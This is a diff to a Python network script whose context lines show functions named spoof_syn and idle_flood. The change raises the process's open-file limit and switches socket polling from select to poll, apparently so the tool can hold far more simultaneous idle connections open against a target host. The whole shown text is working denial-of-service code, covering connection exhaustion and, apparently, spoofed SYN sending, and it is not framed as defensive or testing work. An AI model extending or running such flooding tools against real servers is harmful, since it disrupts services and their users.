@@ -18,6 +18,7 @@
 Exit status 1 = failure, 2 = usage.
 """
 import json
+import resource
 import select
 import socket
 import struct
@@ -36,6 +37,9 @@ def spoof_syn(src, dst, dport, n):
 
 def idle_flood(ip, port, n, secs, src=None):
     socks, opened, fast = {}, 0, 0
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft < n + 64:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, n + 64), hard))
     end = time.time() + secs
     while time.time() < end:
         while len(socks) < n:
@@ -53,8 +57,13 @@ def idle_flood(ip, port, n, secs, src=None):
                 break
             socks[s] = time.time()
             opened += 1
-        r, _, _ = select.select(list(socks), [], [], 0.05)
-        for s in r:
+        p = select.poll()
+        byfd = {}
+        for s in socks:
+            p.register(s, select.POLLIN | select.POLLHUP | select.POLLERR)
+            byfd[s.fileno()] = s
+        for fd, _ in p.poll(50):
+            s = byfd[fd]
             try:
                 d = s.recv(4096)
             except OSError:
